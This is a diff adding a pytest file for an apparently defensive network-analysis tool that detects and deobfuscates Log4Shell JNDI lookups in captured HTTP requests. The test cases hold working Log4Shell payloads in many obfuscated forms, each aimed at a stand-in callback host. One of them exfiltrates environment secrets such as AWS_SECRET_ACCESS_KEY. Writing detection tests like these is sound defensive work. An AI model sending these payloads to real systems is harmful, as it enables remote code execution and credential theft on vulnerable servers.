@@ -1,0 +1,149 @@
+"""Log4Shell indicators: every obfuscation form of the JNDI string, no evaluation, the HTTP
+request table, and the bundled scan's requests."""
+
+from __future__ import annotations
+
+import pandas as pd
+import pytest
+
+from packet_factory import REPO, bundled_results, handshake, packet_frame, portless, tcp
+from tracelab.flows import FlowSettings, assemble_connections
+from tracelab.log4shell import deobfuscate, http_requests, jndi_indicator, uri_indicators
+
+CALLBACK = {"jndi": True, "jndi_scheme": "ldap", "jndi_host": "198.51.100.7", "jndi_port": 1389}
+
+
+@pytest.mark.parametrize("form, uri", [
+    ("plain", "/?x=${jndi:ldap://198.51.100.7:1389/a}"),
+    ("lower", "/?x=${jndi:${lower:l}${lower:D}a${lower:p}://198.51.100.7:1389/a}"),
+    ("upper", "/?x=${${upper:j}ndi:ldap://198.51.100.7:1389/a}"),
+    ("empty default", "/?x=${${::-j}${::-n}${::-d}${::-i}:${::-l}dap://198.51.100.7:1389/a}"),
+    ("env default", "/?x=${${env:NOPE:-j}ndi${env:NOPE:-:}ldap://198.51.100.7:1389/a}"),
+    ("sys default", "/?x=${${sys:nope:-j}ndi:ldap://198.51.100.7:1389/a}"),
+    ("date literal", "/?x=${${date:'j'}${date:'n'}di:ldap://198.51.100.7:1389/a}"),
+    ("url encoded", "/?x=%24%7Bjndi%3Aldap%3A%2F%2F198.51.100.7%3A1389%2Fa%7D"),
+    ("double url encoded",
+     "/?x=%2524%257Bjndi%253Aldap%253A%252F%252F198.51.100.7%253A1389/a%257D"),
+    ("encoded lookups", "/?x=%24%7B%24%7Blower%3AJ%7Dndi%3Aldap%3A//198.51.100.7%3A1389/a%7D"),
+    ("nested", "/?x=${${lower:${upper:j}}ndi:ldap://198.51.100.7:1389/a}"),
+    ("mixed case", "/?x=${JnDi:LDAP://198.51.100.7:1389/a}"),
+])
+def test_every_obfuscation_form_reveals_the_lookup(form, uri):
+    found = jndi_indicator(uri)
+    assert {key: found[key] for key in CALLBACK} == CALLBACK
+    assert found["jndi_obfuscated"] is (form not in ("plain", "mixed case"))
+
+
+@pytest.mark.parametrize("scheme", ["ldap", "ldaps", "rmi", "dns", "iiop", "corba", "nds",
+                                    "nis", "http"])
+def test_every_jndi_scheme_and_its_callback(scheme):
+    found = jndi_indicator(f"/a?${{jndi:{scheme}://cb.example:4444/x}}")
+    assert (found["jndi_scheme"], found["jndi_host"], found["jndi_port"]) == \
+        (scheme, "cb.example", 4444)
+
+
+def test_callback_without_a_port_and_on_ipv6():
+    assert jndi_indicator("/${jndi:dns://cb.example/q}")["jndi_port"] is None
+    found = jndi_indicator("/${jndi:ldap://[2001:db8::1]:1389/a}")
+    assert (found["jndi_host"], found["jndi_port"]) == ("[2001:db8::1]", 1389)
+
+
+def test_a_callback_cut_by_the_snap_length_is_not_reported_in_part():
+    cut_port = "/?x=${jndi:${lower:l}dap://198.51.100.7:13"
+    assert jndi_indicator(cut_port)["jndi_port"] == 13
+    assert (jndi_indicator(cut_port, truncated=True)["jndi_host"],
+            jndi_indicator(cut_port, truncated=True)["jndi_port"]) == ("198.51.100.7", None)
+    assert jndi_indicator("/?x=${jndi:rmi:/", truncated=True)["jndi_host"] is None
+    whole = jndi_indicator("/?x=${jndi:ldap://198.51.100.7:1389/a", truncated=True)
+    assert (whole["jndi_host"], whole["jndi_port"]) == ("198.51.100.7", 1389)
+
+
+def test_the_whole_lookup_is_kept_with_its_exfiltration_part():
+    found = jndi_indicator("/?x=${jndi:${lower:l}dap://198.51.100.7:1389/${env:USER}} HTTP")
+    assert found["jndi_lookup"] == "${jndi:ldap://198.51.100.7:1389/${env:USER}}"
+
+
+def test_nothing_is_looked_up(monkeypatch):
+    monkeypatch.setenv("USER", "secret-user-name")
+    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", "secret-key")
+    text = "/${jndi:ldap://x.example/${env:USER}/${env:AWS_SECRET_ACCESS_KEY}/${sys:user.home}}"
+    assert "secret" not in deobfuscate(text)
+    assert deobfuscate(text) == text
+
+
+def test_text_without_lookups_is_left_alone():
+    for uri in ["/index.html", "/a%20b", "/${notalookup", "/}{$", "/$%7B"]:
+        assert jndi_indicator(uri)["jndi"] is False
+
+
+def test_deobfuscation_is_bounded():
+    # 40 layers of URL encoding: the bounded loop stops; the text stays text.
+    layered = "${jndi:ldap://x/a}"
+    for _ in range(40):
+        layered = layered.replace("%", "%25").replace("$", "%24").replace("{", "%7B")
+    assert isinstance(deobfuscate(layered, max_rounds=16), str)
+    assert jndi_indicator("/" + "${" * 5000 + "x" + "}" * 5000)["jndi"] is False
+
+
+def test_uri_shape_columns():
+    shape = uri_indicators(pd.Series(["/a%20b%2Fc", "/plain", "/x?q=${jndi:dns://a/b}", None]))
+    assert shape["uri_length"].tolist() == [10, 6, 22, 0]
+    assert shape["percent_encoded_share"].tolist() == pytest.approx([0.6, 0.0, 0.0, 0.0])
+    assert shape["lookups"].tolist() == [0, 0, 1, 0]
+    assert shape["jndi"].tolist() == [False, False, True, False]
+
+
+def test_requests_are_matched_to_their_responses_in_order():
+    C, S = "10.0.0.1", "10.0.0.2"
+    rows = [*handshake(0, C, 40000, S, 80),
+            tcp(0.01, C, 40000, S, 80, "PA", seq=1, payload=30, protocol="HTTP",
+                http_method="GET", http_uri="/first"),
+            tcp(0.02, C, 40000, S, 80, "PA", seq=31, payload=30, protocol="HTTP",
+                http_method="GET", http_uri="/missing"),
+            tcp(0.03, S, 80, C, 40000, "PA", seq=1, payload=50, protocol="HTTP",
+                http_status=200),
+            tcp(0.04, S, 80, C, 40000, "PA", seq=51, payload=50, protocol="HTTP",
+                http_status=404),
+            tcp(0.05, C, 40000, S, 80, "PA", seq=61, payload=30, protocol="HTTP",
+                http_method="POST", http_uri="/unanswered"),
+            portless(0.06, "10.0.0.8", "10.0.0.9", "HTTP", http_method="GET",
+                     http_uri="/nowhere/${jndi:ldap://cb:13", http_version=None)]
+    packets = packet_frame(rows)
+    connection = assemble_connections(packets, FlowSettings())
+    http = http_requests(packets, connection.packet_uid)
+    assert http["uri"].tolist() == ["/first", "/missing", "/unanswered",
+                                    "/nowhere/${jndi:ldap://cb:13"]
+    assert http["uri_truncated"].tolist() == [False, False, False, True]
+    assert pd.isna(http["jndi_port"].iloc[3]) and http["jndi_host"].iloc[3] == "cb"
+    assert http["status"].tolist()[:2] == [200, 404]
+    assert http["status"].isna().tolist()[2:] == [True, True]
+    assert http["uid"].tolist()[:3] == [0, 0, 0] and pd.isna(http["uid"].iloc[3])
+
+
+def test_bundled_scan_requests_all_carry_the_callback():
+    """Independently: every GET in the export's Info carries `${`, and the scanner's own
+    address and port 1389 follow `://` once letters are rebuilt."""
+    export = pd.read_csv(REPO / "data/log4j_scan.csv.gz")
+    requests = export[export["Info"].str.startswith("GET ")]
+    assert requests["Info"].str.contains("${", regex=False).all()
+    http = pd.read_parquet(bundled_results() / "features/log4j_scan/http.parquet")
+    assert len(http) == len(requests)
+    assert http["jndi"].all()
+    assert set(http["jndi_host"] + ":" + http["jndi_port"].astype(str)) == {"198.18.0.2:1389"}
+    assert set(http["jndi_scheme"]) <= {"ldap", "dns", "rmi"}
+    obfuscated = ~requests["Info"].str.contains(r"\$\{jndi:[a-z]+://", regex=True)
+    assert http["jndi_obfuscated"].sum() == obfuscated.sum() > 0
+    assert (http["status"] == 200).all()
+
+
+def test_bundled_capture_cut_at_128_bytes_reports_no_partial_callback():
+    """The pcapng keeps 128 bytes a packet: long request lines end early."""
+    http = pd.read_parquet(bundled_results() / "features/log4j_scan_pcap/http.parquet")
+    assert http["jndi"].all() and http["uri_truncated"].any()
+    assert set(http["jndi_port"].dropna()) == {1389}
+    assert set(http["jndi_host"].dropna()) == {"198.18.0.2"}
+
+
+def test_bundled_browsing_has_no_indicator():
+    http = pd.read_parquet(bundled_results() / "features/web_browsing/http.parquet")
+    assert len(http) > 0 and not http["jndi"].any()
